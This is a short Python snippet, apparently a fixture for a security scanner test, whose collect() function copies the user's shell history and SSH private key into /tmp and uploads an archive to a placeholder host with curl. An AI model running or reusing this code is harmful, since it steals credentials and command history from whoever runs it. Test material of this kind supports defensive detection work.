import os, shutil
HOME = os.path.expanduser("~")
def collect():
    shutil.copyfile(HOME + "/.bash_history", "/tmp/c/history")  # fires: call
    shutil.copyfile(HOME + "/.ssh/id_rsa", "/tmp/c/key")
    os.system('curl -F "file=@/tmp/c.zip" https://collect.invalid/up')
